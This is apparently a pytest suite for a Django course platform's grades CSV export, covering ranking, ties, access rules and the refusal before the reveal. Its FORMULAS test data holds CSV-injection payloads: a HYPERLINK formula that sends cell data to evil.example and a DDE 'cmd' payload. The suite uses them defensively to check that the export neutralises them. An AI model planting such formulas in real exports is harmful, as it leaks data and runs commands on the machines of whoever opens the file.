"""Grade export: every enrolled student, their final (private, after the late penalty) score,
rank, entries and late penalty, from the private leaderboard; a CSV for the course's TAs and a
management command; refused with a clear 409 before the reveal (the grades are not final yet)."""
import csv
import io
from datetime import timedelta

import pytest
from django.contrib.auth import get_user_model
from django.core.files.base import ContentFile
from django.core.management import CommandError, call_command
from django.test import Client
from django.utils import timezone

from basin.courses.models import DatasetVersion, Homework, Membership
from basin.courses.services import enroll, reveal_private
from basin.leaderboard.export import COLUMNS, grades_frame
from basin.submissions.models import Submission

# The tests marked database_sensitive are re-run on PostgreSQL (tests/platform/test_on_postgres.py).
pytestmark = pytest.mark.django_db


@pytest.fixture
def hw(course):
    """Closed yesterday, not yet revealed."""
    now = timezone.now()
    dataset = DatasetVersion.objects.create(slug="stub", directory="stub", seed=0, manifest={})
    return Homework.objects.create(course=course, slug="hw1", title="HW1", dataset=dataset,
                                   opens_at=now - timedelta(days=10), deadline=now - timedelta(days=1))


@pytest.fixture
def make(hw):
    start = timezone.now() - timedelta(days=5)

    def submission(user, public, private, minutes, status="scored", **fields):
        s = Submission.objects.create(homework=hw, user=user, file=ContentFile(b"x", name="s.zip"),
                                      original_name="s.zip", kind="bundle", size=1, sha256="0" * 64, status=status,
                                      public_score=public, private_score=private, **fields)
        Submission.objects.filter(pk=s.pk).update(created_at=start + timedelta(minutes=minutes))
        return s
    return submission


@pytest.fixture
def roster(people, course):
    """student: Ada Lovelace (s-1); other_student (s-2, no name); carol (s-3), nothing scored."""
    people["student"].first_name, people["student"].last_name = "Ada", "Lovelace"
    people["student"].save()
    Membership.objects.filter(course=course, user=people["student"]).update(student_id="s-1")
    Membership.objects.filter(course=course, user=people["other_student"]).update(student_id="s-2")
    people["carol"] = get_user_model().objects.create_user("carol", password="carol-password-1")
    enroll(course=course, user=people["carol"], role=Membership.Role.STUDENT)
    Membership.objects.filter(course=course, user=people["carol"]).update(student_id="s-3")
    return people


def read(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.fixture
def standings(roster, make, hw):
    """A tie at 0.375 after the penalty: other_student's submission came first, so ranks first.
    The student's final is their best public submission (they chose none), not their best private."""
    p = roster
    make(p["student"], public=0.40, private=0.99, minutes=1)  # best public: 0.9 × 0.5 = 0.45 > 0.40
    make(p["student"], public=0.90, private=0.75, minutes=30, late_penalty=0.5)  # 0.75 × (1 − 0.5) = 0.375
    make(p["other_student"], public=0.70, private=0.375, minutes=10)
    make(p["carol"], public=None, private=None, minutes=5, status="failed", verdict="runtime_error")
    make(p["ta"], public=0.95, private=0.95, minutes=2, is_baseline=True, note="baseline CNN")
    reveal_private(homework=hw)
    return p


# the penalised scores are float arithmetic in the database, and a tie at 0.375 is ranked on them
@pytest.mark.database_sensitive
def test_the_csv_has_every_student_with_score_rank_entries_and_late_penalty(standings):
    client = Client()
    client.force_login(standings["ta"])
    response = client.get("/homeworks/hw1/grades.csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"] == "attachment; filename=hw1-grades.csv"
    text = response.content.decode()
    assert text.splitlines()[0] == ",".join(COLUMNS) == "student_id,name,username,final_score,rank,entries,late_penalty"
    assert read(text) == [
        {"student_id": "s-2", "name": "other_student", "username": "other_student", "final_score": "0.375",
         "rank": "1", "entries": "1", "late_penalty": "0.0"},
        {"student_id": "s-1", "name": "Ada Lovelace", "username": "student", "final_score": "0.375",
         "rank": "2", "entries": "2", "late_penalty": "0.5"},
        {"student_id": "s-3", "name": "carol", "username": "carol", "final_score": "", "rank": "",
         "entries": "0", "late_penalty": ""},
    ]
    assert "baseline" not in text and ",ta," not in text


# a tie on private scores read from the database, broken by created_at
@pytest.mark.database_sensitive
def test_a_tie_goes_to_the_earlier_submission(roster, make, hw):
    make(roster["student"], public=0.5, private=0.625, minutes=3)
    make(roster["other_student"], public=0.9, private=0.625, minutes=4)
    reveal_private(homework=hw)
    frame = grades_frame(hw)
    assert list(frame["username"]) == ["student", "other_student", "carol"]
    assert list(frame["rank"].astype(object).where(frame["rank"].notna(), None)) == [1, 2, None]


def test_the_export_refuses_before_the_reveal_and_says_to_reveal_first(roster, make, hw):
    make(roster["student"], public=0.9, private=0.4375, minutes=1)
    client = Client()
    client.force_login(roster["ta"])
    response = client.get("/homeworks/hw1/grades.csv")
    assert response.status_code == 409
    body = response.content.decode()
    assert "not revealed yet: reveal it first" in body and "0.4375" not in body
    with pytest.raises(CommandError, match="reveal it first"):
        call_command("export_grades", "hw1")


@pytest.mark.parametrize("persona", [None, "student", "other_student", "other_ta", "outsider"])
def test_only_the_courses_tas_download_grades(standings, persona):
    client = Client()
    if persona:
        client.force_login(standings[persona])
    assert client.get("/homeworks/hw1/grades.csv").status_code == 404
    assert client.get("/homeworks/no-such/grades.csv").status_code == 404


def test_a_superuser_downloads_them_too(standings):
    client = Client()
    client.force_login(get_user_model().objects.create_superuser("root", "r@example.org", "root-password-1"))
    assert client.get("/homeworks/hw1/grades.csv").status_code == 200


def test_the_command_writes_the_same_csv(standings, tmp_path):
    client = Client()
    client.force_login(standings["ta"])
    downloaded = client.get("/homeworks/hw1/grades.csv").content.decode()
    out = tmp_path / "grades.csv"
    call_command("export_grades", "hw1", out=str(out))
    assert out.read_bytes().decode() == downloaded
    stdout = io.StringIO()
    call_command("export_grades", "hw1", stdout=stdout)
    assert stdout.getvalue() == downloaded
    with pytest.raises(CommandError, match="no homework"):
        call_command("export_grades", "nope")


FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "  =1+1", "\uff1d1+1"]


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_text_cell_runs_as_a_formula_in_a_spreadsheet(roster, make, hw, course, formula):
    """A student's own name, username and student id never start a formula in the grades CSV."""
    roster["student"].first_name, roster["student"].last_name = formula, ""
    roster["student"].save()
    roster["other_student"].username = formula
    roster["other_student"].save()
    Membership.objects.filter(course=course, user=roster["carol"]).update(student_id=formula)
    make(roster["student"], public=0.9, private=0.5, minutes=1)
    make(roster["other_student"], public=0.8, private=0.25, minutes=2)
    reveal_private(homework=hw)
    client = Client()
    client.force_login(roster["ta"])
    downloaded = client.get("/homeworks/hw1/grades.csv").content.decode()
    stdout = io.StringIO()
    call_command("export_grades", "hw1", stdout=stdout)
    assert stdout.getvalue() == downloaded
    cells = [cell for row in read(downloaded) for cell in row.values()]
    assert [c for c in cells if c.lstrip(" ")[:1] in set("=+-@\t\r\uff1d")] == []
    # the name of one, the name and username of another, the student id of a third: shown as the text
    # they are, behind the apostrophe that spreadsheets hide
    hostile = [c for c in cells if formula.strip() in c]
    assert len(hostile) == 4 and all(c.startswith("'") for c in hostile), hostile
    assert len(read(downloaded)) == 3  # a CR inside a cell starts no row of its own


def test_numbers_stay_numbers_negative_ones_too(roster, make, hw, course):
    """A negative late penalty (a bonus) and plain-number student ids are not quoted: a spreadsheet
    still sums them."""
    Membership.objects.filter(course=course, user=roster["student"]).update(student_id="-17")
    Membership.objects.filter(course=course, user=roster["other_student"]).update(student_id="+2.5e3")
    make(roster["student"], public=0.9, private=0.5, minutes=1, late_penalty=-0.25)
    reveal_private(homework=hw)
    rows = {row["username"]: row for row in read(grades_frame_csv(hw))}
    assert rows["student"]["late_penalty"] == "-0.25" and rows["student"]["final_score"] == "0.625"
    assert rows["student"]["student_id"] == "-17" and rows["other_student"]["student_id"] == "+2.5e3"


def grades_frame_csv(hw) -> str:
    from basin.leaderboard.export import grades_csv

    return grades_csv(hw)
